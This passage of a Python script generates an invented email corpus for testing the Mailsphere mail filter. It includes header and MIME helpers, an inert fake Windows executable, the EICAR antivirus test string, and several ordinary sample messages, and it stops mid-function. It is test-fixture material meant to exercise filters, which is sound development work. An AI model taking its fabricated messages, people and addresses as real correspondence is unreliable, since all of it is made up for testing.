"""Rebuild Mailsphere's sample mail: a Maildir, an mbox and loose .eml files.

Run `python3 sample_mail/build.py` from anywhere. Standard library only and
deterministic: no clock, no randomness, so a rebuild gives byte-identical
files and git shows no change unless this script changed.

Every message is invented for this project. Addresses use example.com (the
sample organisation), NAME.example (its partners, under the reserved .example TLD) and made-up spam
domains; every IP is from the documentation ranges 192.0.2.0/24 (the
organisation), 198.51.100.0/24 (honest outside senders) and 203.0.113.0/24
(hostile senders). Two deliberate exceptions, because filters recognise them
by name: phishing anchor texts show the real brand host they imitate
(www.paypal.com), and one spam uses the public shorteners bit.ly and
tinyurl.com. Nothing is ever fetched from any of them.

The binary pieces (PDF, fake PE, zip files, EICAR) are made here, byte by
byte, so anyone can see exactly what the malware samples contain: nothing
that runs.
"""
from __future__ import annotations

import base64
import hashlib
import io
import quopri
import shutil
import struct
import zipfile
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime
from pathlib import Path
from typing import Callable

HERE = Path(__file__).resolve().parent
MAILDIR = HERE / "Maildir"
EML_DIR = HERE / "eml"
MBOX = HERE / "archive.mbox"
README = HERE / "README.md"

CET = timezone(timedelta(hours=1), "CET")
UTC = timezone.utc
EST = timezone(timedelta(hours=-5), "EST")

# The organisation's own hosts, all inside 192.0.2.0/24.
MX1 = ("mx1.example.com", "192.0.2.25")
MAILSTORE = "mail.example.com"  # where staff submit mail (authenticated)
MAILDIR_HOST = "mailhost"

# Assembled from two halves so this script itself is not flagged by desktop
# antivirus; the bytes written into the sample are the standard 68-byte file.
EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$"
         + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
EICAR_SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"


@dataclass(frozen=True)
class Sample:
    """One message and where it goes."""

    place: str  # "cur", "new", ".Lists/cur", ".Lists/new", "mbox" or "eml"
    name: str  # short slug: the .eml file name, or the mbox entry's label
    kind: str  # ham, spam, phishing, spoof, malware, malformed
    verdict: str  # what a careful filter should decide
    demonstrates: str
    delivered: datetime  # when mx1 took it; names the Maildir file, dates the mbox line
    envelope_from: str
    raw: bytes
    flags: str = "S"


# ---------------------------------------------------------------- helpers

def fmt_date(when: datetime) -> str:
    """A date as Postfix stamps it: RFC 5322 plus the zone name in a comment."""
    return f"{format_datetime(when)} ({when.tzname()})"


def plain_date(when: datetime) -> str:
    return format_datetime(when)


def queue_id(seed: str) -> str:
    """A Postfix long queue id, derived from `seed` so rebuilds are stable."""
    alphabet = "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz"
    digest = hashlib.sha256(seed.encode()).digest()
    return "4" + "".join(alphabet[b % len(alphabet)] for b in digest[:13])


def message_id(seed: str, domain: str, when: datetime) -> str:
    token = hashlib.sha256(seed.encode()).hexdigest()[:16]
    return f"<{when.strftime('%Y%m%d%H%M%S')}.{token}@{domain}>"


def boundary(seed: str) -> str:
    return "----=_Part_" + hashlib.sha256(seed.encode()).hexdigest()[:24]


def b64(data: bytes) -> str:
    text = base64.b64encode(data).decode("ascii")
    return "\n".join(text[i:i + 76] for i in range(0, len(text), 76)) + "\n"


def encoded_word(text: str) -> str:
    """An RFC 2047 base64 encoded-word, the way bulk tools encode emoji subjects."""
    return "=?UTF-8?B?" + base64.b64encode(text.encode("utf-8")).decode("ascii") + "?="


def qp(text: str, charset: str) -> str:
    encoded = quopri.encodestring(text.encode(charset)).decode("ascii")
    return encoded.replace("\r\n", "\n")


def received(helo: str, rdns: str, ip: str, by: str, when: datetime, *,
             proto: str = "ESMTPS", rcpt: str | None = None, software: str = "Postfix",
             tls: bool = True, auth: str | None = None) -> str:
    """One Received header value in the shape Postfix writes."""
    lines = [f"from {helo} ({rdns} [{ip}])"]
    if tls:
        lines.append("(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)")
        lines.append(" key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)")
        lines.append("(No client certificate requested)")
    if auth:
        lines.append(f"(Authenticated sender: {auth})")
    ident = queue_id(f"{by}|{ip}|{when.isoformat()}")
    lines.append(f"by {by} ({software}) with {proto} id {ident}")
    if rcpt:
        lines.append(f"for <{rcpt}>; {fmt_date(when)}")
    else:
        lines[-1] += f"; {fmt_date(when)}"
    return "\n\t".join(lines)


def inbound(helo: str, rdns: str, ip: str, rcpt: str, when: datetime, *, tls: bool = True) -> list[tuple[str, str]]:
    """The hop where an outside message enters example.com: its MX, mx1.

    One hop on purpose: with no configuration at all, the top Received is the
    one our own MX wrote, so the quickstart's connection replay finds the
    right handover without knowing the trusted networks.
    """
    return [("Received", received(helo, rdns, ip, MX1[0], when, rcpt=rcpt, tls=tls,
                                  proto="ESMTPS" if tls else "ESMTP"))]


def delivery(envelope_from: str, rcpt: str) -> list[tuple[str, str]]:
    """What the final delivery agent prepends."""
    return [("Return-Path", f"<{envelope_from}>" if envelope_from else "<>"),
            ("Delivered-To", rcpt)]


def render(headers: list[tuple[str, str | None]], body: str) -> str:
    lines = [f"{name}: {value}" for name, value in headers if value is not None]
    if not body.endswith("\n"):
        body += "\n"
    return "\n".join(lines) + "\n\n" + body


def multipart(bound: str, parts: list[tuple[list[tuple[str, str]], str]], *,
              preamble: str = "This is a multi-part message in MIME format.\n",
              close: bool = True) -> str:
    chunks = [preamble] if preamble else []
    for headers, body in parts:
        head = "\n".join(f"{name}: {value}" for name, value in headers)
        if not body.endswith("\n"):
            body += "\n"
        chunks.append(f"\n--{bound}\n{head}\n\n{body}")
    if close:
        chunks.append(f"\n--{bound}--\n")
    return "".join(chunks)


def at(month: int, day: int, hour: int, minute: int, second: int = 0, tz: timezone = CET) -> datetime:
    return datetime(2026, month, day, hour, minute, second, tzinfo=tz)


# --------------------------------------------------------- binary payloads

def tiny_pdf(lines: list[str]) -> bytes:
    """A one-page PDF 1.4 with Helvetica text and a correct xref table."""
    def escape(text: str) -> str:
        return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    ops = ["BT", "/F1 11 Tf", "72 770 Td", "14 TL"]
    ops += [f"({escape(line)}) '" for line in lines]
    ops.append("ET")
    stream = "\n".join(ops).encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n" % (len(objects) + 1)
    out += b"0000000000 65535 f \n"
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref_at)
    return bytes(out)


def fake_pe() -> bytes:
    """Bytes shaped like a Windows executable (MZ, e_lfanew, PE header), with no code.

    Enough for type detection by content; nothing here can run.
    """
    e_lfanew = 0x80
    image = bytearray(1024)
    image[0:2] = b"MZ"
    struct.pack_into("<HHHHH", image, 2, 0x90, 3, 0, 4, 0)  # last page, pages, relocs, header paragraphs
    struct.pack_into("<I", image, 0x3C, e_lfanew)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    image[0x4E:0x4E + len(stub)] = stub
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x014C, 1, 0x69000000, 0, 0, 0xE0, 0x0102)
    image[e_lfanew:e_lfanew + len(coff)] = coff
    optional_at = e_lfanew + len(coff)
    # PE32 optional header: magic, linker 14.0, no code size, entry point 0
    # (there is no code), image base, alignments, OS/subsystem versions 6.0,
    # image and header sizes, subsystem 2 (GUI), 16 empty data directories.
    struct.pack_into("<HBBIIIIII", image, optional_at, 0x010B, 14, 0, 0, 0, 0, 0, 0x1000, 0)
    struct.pack_into("<IIIHHHHHHIIIIHH", image, optional_at + 28, 0x400000, 0x1000, 0x200,
                     6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200, 0, 2, 0x8140)
    struct.pack_into("<IIIIII", image, optional_at + 72, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    section_at = optional_at + 0xE0
    # One section header, ".data", pointing at the marker text below.
    struct.pack_into("<8sIIIIIIHHI", image, section_at, b".data", 0x100, 0x1000, 0x200, 0x200,
                     0, 0, 0, 0, 0xC0000040)
    marker = b"Mailsphere sample: an inert fake executable. It contains no code."
    image[0x200:0x200 + len(marker)] = marker
    return bytes(image)


def stored_zip(members: list[tuple[str, bytes]]) -> bytes:
    """A zip with fixed timestamps and no compression, so it is byte-stable."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 3, 2, 9, 30, 0))
            info.create_system = 0
            info.external_attr = 0x20  # DOS "archive" bit, as Windows zips carry
            archive.writestr(info, data)
    return buffer.getvalue()


# ------------------------------------------------------------- ham

def ham_meeting_notes() -> Sample:
    when = at(1, 12, 10, 42, 18)
    hdr = [
        *delivery("alice@example.com", "bob@example.com"),
        ("Received", received("[192.0.2.57]", "ws-057.office.example.com", "192.0.2.57", MAILSTORE,
                              when + timedelta(seconds=2), proto="ESMTPSA", rcpt=None,
                              auth="alice@example.com")),
        ("Message-ID", message_id("meeting-notes", "example.com", when)),
        ("Date", plain_date(when)),
        ("MIME-Version", "1.0"),
        ("User-Agent", "Mozilla Thunderbird"),
        ("From", "Alice Brennan <alice@example.com>"),
        ("To", "Operations team <team@example.com>"),
        ("Subject", "Notes from Monday's planning meeting"),
        ("Content-Type", "text/plain; charset=UTF-8; format=flowed"),
        ("Content-Transfer-Encoding", "7bit"),
    ]
    body = """Hi all,

Thanks for a focused meeting this morning. Short summary below; shout if I
got anything wrong.

Decisions
- The warehouse scanner rollout moves to the week of 26 January, so that
  Sarah's team at ClientCo can join the acceptance test.
- We keep the Friday deploy freeze through February.
- Carol will approve the January supplier invoices by Thursday.

Actions
- Bob: confirm the maintenance window with facilities (by Wednesday).
- Alice: circulate the revised rollout plan to ClientCo.
- Everyone: add your leave for February to the shared calendar.

Next meeting: Monday 19 January, 10:00, room 2.14.

Alice
"""
    return Sample("cur", "meeting-notes", "ham", "deliver",
                  "internal mail from an authorised 192.0.2.x workstation via authenticated submission; plain text",
                  when + timedelta(seconds=3), "alice@example.com", render(hdr, body).encode())


def ham_supplier_invoice() -> Sample:
    when = at(1, 13, 9, 14, 2)
    arrived = when + timedelta(seconds=5)
    pdf = tiny_pdf([
        "BrightPaper Ltd - Invoice BP-2026-0117",
        "Invoice date: 13 January 2026      Due: 12 February 2026",
        "Bill to: Example Corp, Accounts Payable",
        "",
        "200 x A4 copier paper, 80 g/m2 (box of 5 reams)    EUR 640.00",
        "40 x Toner cartridge, black, model TK-51           EUR 1,160.00",
        "Delivery                                           EUR 25.00",
        "",
        "Total (excl. VAT)                                  EUR 1,825.00",
        "Payment to our usual account; reference BP-2026-0117.",
    ])
    bound = boundary("invoice")
    hdr = [
        *delivery("billing@brightpaper.example", "carol@example.com"),
        *inbound("mail.brightpaper.example", "mail.brightpaper.example", "198.51.100.23",
                 "carol@example.com", arrived),
        ("Received", received("erp01.brightpaper.example", "erp01.brightpaper.example", "198.51.100.31",
                              "mail.brightpaper.example", when + timedelta(seconds=1), proto="ESMTP",
                              tls=False)),
        ("Message-ID", message_id("invoice", "brightpaper.example", when)),
        ("Date", plain_date(when)),
        ("From", "BrightPaper Billing <billing@brightpaper.example>"),
        ("To", "Carol Nguyen <carol@example.com>"),
        ("Subject", "Invoice BP-2026-0117 for January office supplies"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{bound}"'),
    ]
    text = """Dear Carol,

Please find attached invoice BP-2026-0117 for the paper and toner delivered
to your Lyon Street office on 9 January.

Amount due: EUR 1,825.00 (excl. VAT), payable within 30 days to the account
on file. Our bank details have not changed.

If anything on the invoice looks wrong, just reply to this message or call
us on the usual number.

Kind regards,
Priya Raman
Accounts, BrightPaper Ltd
"""
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=us-ascii"), ("Content-Transfer-Encoding", "7bit")], text),
        ([("Content-Type", 'application/pdf; name="BP-2026-0117.pdf"'),
          ("Content-Disposition", 'attachment; filename="BP-2026-0117.pdf"'),
          ("Content-Transfer-Encoding", "base64")], b64(pdf)),
    ])
    return Sample("cur", "supplier-invoice", "ham", "deliver",
                  "known supplier, Received chain from its ERP host through its MTA to mx1, harmless one-page PDF attachment",
                  arrived + timedelta(seconds=2), "billing@brightpaper.example", render(hdr, body).encode())


def ham_thread_reply() -> Sample:
    when = at(1, 14, 16, 5, 40, EST)
    arrived = when + timedelta(seconds=4)
    parent = message_id("rollout-plan", "example.com", at(1, 12, 15, 20))
    grandparent = message_id("rollout-first", "clientco.example", at(1, 9, 11, 2, 0, EST))
    hdr = [
        *delivery("sarah.okafor@clientco.example", "alice@example.com"),
        *inbound("smtp-out2.clientco.example", "smtp-out2.clientco.example", "198.51.100.45",
                 "alice@example.com", arrived),
        ("Message-ID", message_id("rollout-reply", "clientco.example", when)),
        ("In-Reply-To", parent),
        ("References", f"{grandparent}\n {parent}"),
        ("Date", plain_date(when)),
        ("From", "Sarah Okafor <sarah.okafor@clientco.example>"),
        ("To", "Alice Brennan <alice@example.com>"),
        ("Cc", "Bob Lindqvist <bob@example.com>"),
        ("Subject", "Re: Rollout schedule for the warehouse scanners"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
        ("Content-Transfer-Encoding", "7bit"),
    ]
    body = """Hi Alice,

The week of 26 January works for us. Two of our shift leads can be on site
on Tuesday and Wednesday; Thursday is stocktaking, so we would rather not.

Could Bob send the maintenance window once facilities confirm? Our network
team needs a day's notice to open the VLAN for the new scanners.

Thanks,
Sarah

On Mon, 12 Jan 2026 at 15:20, Alice Brennan <alice@example.com> wrote:
> Hi Sarah,
>
> Following our planning meeting, we propose to move the scanner rollout
> to the week of 26 January so your team can take part in the acceptance
> test. Would Tuesday to Thursday suit you?
>
> Best,
> Alice
"""
    return Sample("cur", "thread-reply", "ham", "deliver",
                  "reply from a client in an existing thread: In-Reply-To, References, quoted text",
                  arrived + timedelta(seconds=2), "sarah.okafor@clientco.example",
                  render(hdr, body).encode(), flags="RS")


def ham_utf8_body() -> Sample:
    when = at(1, 20, 11, 31, 9)
    arrived = when + timedelta(seconds=3)
    hdr = [
        *delivery("zofia@lingua.example", "alice@example.com"),
        *inbound("mx.lingua.example", "mx.lingua.example", "198.51.100.61", "alice@example.com", arrived),
        ("Message-ID", message_id("translation", "lingua.example", when)),
        ("Date", plain_date(when)),
        ("From", "=?UTF-8?Q?Zofia_Kowalczyk?= <zofia@lingua.example>"),
        ("To", "alice@example.com"),
        ("Subject", "=?UTF-8?Q?T=C5=82umaczenie_broszury_=E2=80=93_wersja_2?="),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=UTF-8"),
        ("Content-Transfer-Encoding", "8bit"),
    ]
    body = """Dzień dobry Alice,

w załączeniu przesyłam poprawioną wersję tłumaczenia broszury (wersja 2).
Zmiany dotyczą głównie sekcji „Bezpieczeństwo danych” i cennika.

For your German colleagues, the same paragraph in German:
„Die Änderungen betreffen vor allem den Abschnitt Datensicherheit und die
Preisübersicht. Größere Umstellungen gab es nicht.“

Price check: the Polish brochure now shows 1 250,00 zł (≈ 290 €) per site.

Pozdrawiam serdecznie,
Zofia Kowalczyk
Lingua — biuro tłumaczeń
"""
    return Sample("cur", "utf8-body", "ham", "deliver",
                  "UTF-8 8bit body (Polish, German, currency signs) and a UTF-8 encoded-word subject",
                  arrived + timedelta(seconds=2), "zofia@lingua.example", render(hdr, body).encode("utf-8"))


def ham_shipping_notice() -> Sample:
    when = at(2, 3, 14, 2, 51, UTC)
    arrived = when + timedelta(seconds=2)
    bound = boundary("shipping")
    hdr = [
        *delivery("bounce-7731@shop.example", "bob@example.com"),
        *inbound("out3.shop.example", "out3.shop.example", "198.51.100.97", "bob@example.com", arrived),
        ("Message-ID", message_id("shipping", "shop.example", when)),
        ("Date", plain_date(when)),
        ("From", "Example Shop <orders@shop.example>"),
        ("To", "bob@example.com"),
        ("Subject", "Your order A-20931 has shipped"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/alternative; boundary="{bound}"'),
    ]
    text = """Hello Bob,

Good news: your order A-20931 is on its way.

  1 x USB-C docking station, 2 x 27" monitor arm

Carrier: ParcelLine, tracking number PL 4471 0093 2215
Track it: https://track.shop.example/A-20931

Expected delivery: Thursday 5 February.

Thanks for shopping with us,
Example Shop customer service
"""
    html = """<!DOCTYPE html>
<html><body style="font-family: Arial, sans-serif; color: #222;">
<p>Hello Bob,</p>
<p>Good news: your order <strong>A-20931</strong> is on its way.</p>
<table cellpadding="4" style="border-collapse: collapse;">
<tr><td>1 &times; USB-C docking station</td></tr>
<tr><td>2 &times; 27&quot; monitor arm</td></tr>
</table>
<p>Carrier: ParcelLine, tracking number PL 4471 0093 2215<br>
<a href="https://track.shop.example/A-20931">Track your parcel</a></p>
<p>Expected delivery: Thursday 5 February.</p>
<p style="font-size: 12px; color: #666;">Example Shop &middot; 12 Market Row &middot;
<a href="https://shop.example/account/orders">Your orders</a></p>
</body></html>
"""
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "7bit")], text),
        ([("Content-Type", "text/html; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp(html, "utf-8")),
    ], preamble="")
    return Sample("cur", "shipping-notice", "ham", "deliver",
                  "transactional HTML+text notice from a shop the user ordered from; links match their text",
                  arrived + timedelta(seconds=2), "bounce-7731@shop.example", render(hdr, body).encode())


def ham_latin1_subject() -> Sample:
    when = at(2, 9, 8, 47, 30)
    arrived = when + timedelta(seconds=3)
    hdr = [
        *delivery("helene.moreau@atelier.example", "alice@example.com"),
        *inbound("smtp.atelier.example", "smtp.atelier.example", "198.51.100.140", "alice@example.com",
                 arrived),
        ("Message-ID", message_id("lyon", "atelier.example", when)),
        ("Date", plain_date(when)),
        ("From", "=?ISO-8859-1?Q?H=E9l=E8ne_Moreau?= <helene.moreau@atelier.example>"),
        ("To", "Alice Brennan <alice@example.com>"),
        ("Subject", "=?ISO-8859-1?Q?R=E9union_de_f=E9vrier_=E0_Lyon_=3A_ordre_du_jour?="),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=ISO-8859-1"),
        ("Content-Transfer-Encoding", "quoted-printable"),
        ("X-Mailer", "Microsoft Outlook 16.0"),
    ]
    text = """Bonjour Alice,

Voici l'ordre du jour proposé pour notre réunion du 18 février à Lyon :

1. Bilan du déploiement des scanners (côté entrepôt)
2. Planning du deuxième trimestre
3. Questions diverses (accès au bâtiment, badges, café)

La réunion aura lieu dans nos locaux, 3e étage. Merci de me confirmer le
nombre de participants avant vendredi.

Bien cordialement,
Hélène Moreau
Atelier Moreau & Fils
"""
    return Sample("new", "latin1-subject", "ham", "deliver",
                  "ISO-8859-1 encoded-word subject and From name, quoted-printable Latin-1 body",
                  arrived + timedelta(seconds=2), "helene.moreau@atelier.example",
                  render(hdr, qp(text, "iso-8859-1")).encode())


def ham_list_post() -> Sample:
    when = at(2, 11, 17, 12, 44, UTC)
    arrived = when + timedelta(seconds=6)
    hdr = [
        *delivery("dev-announce-bounces+bob=example.com@lists.example", "bob@example.com"),
        *inbound("mail.lists.example", "mail.lists.example", "198.51.100.80", "bob@example.com", arrived),
        ("Received", received("laptop-mk", "dsl-51.isp.example", "198.51.100.205", "mail.lists.example",
                              when + timedelta(seconds=2), proto="ESMTPSA", auth="m.keller@kellerfamily.example")),
        ("Message-ID", message_id("freeze", "kellerfamily.example", when)),
        ("Date", plain_date(when)),
        ("From", "Martin Keller <m.keller@kellerfamily.example>"),
        ("To", "dev-announce@lists.example"),
        ("Subject", "[dev-announce] Release 4.2: feature freeze on Friday"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
        ("Content-Transfer-Encoding", "7bit"),
        ("List-Id", "Announcements for developers <dev-announce.lists.example>"),
        ("List-Unsubscribe", "<https://lists.example/mailman/options/dev-announce>,\n"
                             " <mailto:dev-announce-request@lists.example?subject=unsubscribe>"),
        ("List-Archive", "<https://lists.example/archives/dev-announce/>"),
        ("List-Post", "<mailto:dev-announce@lists.example>"),
        ("List-Help", "<mailto:dev-announce-request@lists.example?subject=help>"),
        ("List-Subscribe", "<https://lists.example/mailman/listinfo/dev-announce>,\n"
                           " <mailto:dev-announce-request@lists.example?subject=subscribe>"),
        ("Precedence", "list"),
        ("Sender", '"dev-announce" <dev-announce-bounces@lists.example>'),
        ("Errors-To", "dev-announce-bounces@lists.example"),
    ]
    body = """Hello everyone,

A reminder that the 4.2 feature freeze starts this Friday, 13 February, at
18:00 UTC. After that only bug fixes and documentation go into the release
branch.

- Open pull requests for new features: please get them reviewed by Thursday.
- The release candidate is planned for 24 February.
- Translators: strings freeze one week later, on 20 February.

Thanks for all the work this cycle.

Martin, for the release team

_______________________________________________
dev-announce mailing list
dev-announce@lists.example
https://lists.example/mailman/listinfo/dev-announce
"""
    return Sample(".Lists/cur", "list-post", "ham", "deliver",
                  "mailing-list post: List-Id, List-Unsubscribe, List-Post, Precedence: list, list footer",
                  arrived + timedelta(seconds=2), "dev-announce-bounces+bob=example.com@lists.example",
                  render(hdr, body).encode())


def ham_newsletter() -> Sample:
    when = at(2, 16, 6, 0, 3, UTC)
    arrived = when + timedelta(seconds=9)
    bound = boundary("newsletter")
    hdr = [
        *delivery("nl-bounce-bob=example.com@mailer.example", "bob@example.com"),
        *inbound("out-12.mailer.example", "out-12.mailer.example", "198.51.100.112", "bob@example.com",
                 arrived),
        ("Message-ID", message_id("weekly-87", "mailer.example", when)),
        ("Date", plain_date(when)),
        ("From", "The Ops Weekly <news@weekly.example>"),
        ("Reply-To", "editors@weekly.example"),
        ("To", "bob@example.com"),
        ("Subject", "The Ops Weekly #87: backups you can restore, and quieter on-call"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/alternative; boundary="{bound}"'),
        ("List-Id", "The Ops Weekly <weekly.example>"),
        ("List-Unsubscribe", "<https://weekly.example/unsubscribe?u=b7c41e>,\n"
                             " <mailto:unsubscribe@weekly.example?subject=b7c41e>"),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ("Precedence", "bulk"),
        ("Feedback-ID", "87:weekly:mailer.example"),
    ]
    text = """THE OPS WEEKLY - issue 87
You are receiving this because you subscribed at weekly.example.

1. Backups you can actually restore
   A team rehearses a full restore every quarter and writes down what broke.
   https://weekly.example/87/restore-drills

2. Quieter on-call
   Three changes that halved night-time pages without hiding real problems.
   https://weekly.example/87/quieter-on-call

3. Tool of the week: a small log tailer that understands JSON lines.
   https://weekly.example/87/tool

Unsubscribe: https://weekly.example/unsubscribe?u=b7c41e
"""
    html = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>The Ops Weekly #87</title></head>
<body style="margin:0; background:#f4f4f4;">
<table width="600" align="center" style="background:#ffffff; font-family: Georgia, serif;">
<tr><td style="padding:16px;"><h1 style="font-size:22px;">The Ops Weekly &ndash; issue 87</h1>
<p style="font-size:12px; color:#777;">You are receiving this because you subscribed at weekly.example.</p></td></tr>
<tr><td style="padding:16px;">
<h2 style="font-size:17px;"><a href="https://weekly.example/87/restore-drills">Backups you can actually restore</a></h2>
<p>A team rehearses a full restore every quarter and writes down what broke.</p>
<h2 style="font-size:17px;"><a href="https://weekly.example/87/quieter-on-call">Quieter on-call</a></h2>
<p>Three changes that halved night-time pages without hiding real problems.</p>
<h2 style="font-size:17px;"><a href="https://weekly.example/87/tool">Tool of the week</a></h2>
<p>A small log tailer that understands JSON lines.</p>
</td></tr>
<tr><td style="padding:16px; font-size:11px; color:#777;">
<a href="https://weekly.example/unsubscribe?u=b7c41e">Unsubscribe</a> &middot;
<a href="https://weekly.example/preferences?u=b7c41e">Preferences</a>
</td></tr></table>
<img src="https://mailer.example/o/87/b7c41e.gif" width="1" height="1" alt="">
</body></html>
"""
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "7bit")], text),
        ([("Content-Type", "text/html; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp(html, "utf-8")),
    ])
    return Sample(".Lists/new", "newsletter", "ham", "deliver",
                  "subscribed multipart/alternative newsletter via an email service provider: List-Unsubscribe-Post, "
                  "Precedence: bulk, tracking pixel",
                  arrived + timedelta(seconds=2), "nl-bounce-bob=example.com@mailer.example",
                  render(hdr, body).encode())


def ham_from_line_in_body() -> Sample:
    when = at(1, 22, 13, 18, 27)
    arrived = when + timedelta(seconds=2)
    hdr = [
        *delivery("bob@example.com", "alice@example.com"),
        ("Received", received("[192.0.2.61]", "ws-061.office.example.com", "192.0.2.61", MAILSTORE, arrived,
                              proto="ESMTPSA", auth="bob@example.com")),
        ("Message-ID", message_id("outage", "example.com", when)),
        ("Date", plain_date(when)),
        ("From", "Bob Lindqvist <bob@example.com>"),
        ("To", "Alice Brennan <alice@example.com>"),
        ("Subject", "Short outage on the file server last night"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
        ("Content-Transfer-Encoding", "7bit"),
    ]
    body = """Alice,

The file server was unreachable for about twenty minutes last night.

From the logs it looks like the nightly snapshot job and the antivirus
scan started at the same time and the share stopped answering. Nothing
was lost; the snapshot finished at 02:41.

From tonight the scan starts at 03:30 instead, after the snapshot.

Bob
"""
    return Sample("mbox", "from-line-in-body", "ham", "deliver",
                  "internal mail whose body has lines starting with \"From \" (stored as \">From \" in the mbox)",
                  arrived, "bob@example.com", render(hdr, body).encode())


def ham_out_of_office() -> Sample:
    when = at(1, 23, 9, 0, 12, EST)
    arrived = when + timedelta(seconds=3)
    hdr = [
        *delivery("sarah.okafor@clientco.example", "bob@example.com"),
        *inbound("smtp-out1.clientco.example", "smtp-out1.clientco.example", "198.51.100.44",
                 "bob@example.com", arrived),
        ("Message-ID", message_id("ooo", "clientco.example", when)),
        ("In-Reply-To", message_id("window", "example.com", at(1, 23, 14, 59))),
        ("Date", plain_date(when)),
        ("From", "Sarah Okafor <sarah.okafor@clientco.example>"),
        ("To", "Bob Lindqvist <bob@example.com>"),
        ("Subject", "Automatic reply: Maintenance window for the scanner rollout"),
        ("Auto-Submitted", "auto-replied"),
        ("X-Auto-Response-Suppress", "All"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
        ("Content-Transfer-Encoding", "7bit"),
    ]
    body = """Thank you for your message. I am out of the office until Monday
26 January with limited access to email.

For anything urgent about the scanner project, please contact our
operations desk at ops-desk@clientco.example.

Sarah Okafor
"""
    return Sample("mbox", "out-of-office", "ham", "deliver",
                  "automatic reply: Auto-Submitted, X-Auto-Response-Suppress, In-Reply-To",
                  arrived + timedelta(seconds=2), "sarah.okafor@clientco.example", render(hdr, body).encode())


def ham_old_mboxo_quote() -> Sample:
    when = at(1, 27, 15, 40, 55)
    arrived = when + timedelta(seconds=4)
    hdr = [
        *delivery("j.weiss@partner.example", "bob@example.com"),
        *inbound("mail.partner.example", "mail.partner.example", "198.51.100.150", "bob@example.com",
                 arrived),
        ("Message-ID", message_id("pallets", "partner.example", when)),
        ("Date", plain_date(when)),
        ("From", "Juergen Weiss <j.weiss@partner.example>"),
        ("To", "bob@example.com"),
        ("Subject", "Fwd: pallet count for the February delivery"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
        ("Content-Transfer-Encoding", "7bit"),
    ]
    # The forwarded text once passed through an old mbox tool that escaped its
    # "From " line, so the message itself really contains ">From ".
    body = """Hi Bob,

forwarding our warehouse's note below, as discussed on the phone.

Juergen

-------- Forwarded message --------
Subject: pallet count
Date: Mon, 26 Jan 2026 17:02:11 +0100

>From what I can see we need 14 pallets, not 12: the toner boxes were
re-packed by the manufacturer and two more layers fit per pallet only if
we stack them by hand.

Lena, warehouse
"""
    return Sample("mbox", "mboxo-quote", "ham", "deliver",
                  "body line that really starts with \">From \" (an old mboxo escape), stored as \">>From \" in the "
                  "mboxrd file: a reader must unquote exactly one \">\"",
                  arrived + timedelta(seconds=2), "j.weiss@partner.example", render(hdr, body).encode())


def ham_forwarded_rfc822() -> Sample:
    when = at(2, 19, 10, 5, 33)
    inner_when = at(2, 18, 16, 44, 2)
    bound = boundary("forward")
    inner = render([
        ("Message-ID", message_id("slot", "logistics.example", inner_when)),
        ("Date", plain_date(inner_when)),
        ("From", "Delivery Desk <desk@logistics.example>"),
        ("To", "carol@example.com"),
        ("Subject", "Delivery slot confirmed: Tuesday 24 February, 08:00-10:00"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
    ], """Hello,

your delivery slot is confirmed for Tuesday 24 February between 08:00 and
10:00 at gate 3. Please have a forklift driver available.

Reference: LX-88412

Delivery Desk
""")
    hdr = [
        *delivery("carol@example.com", "bob@example.com"),
        ("Received", received("[192.0.2.58]", "ws-058.office.example.com", "192.0.2.58", MAILSTORE,
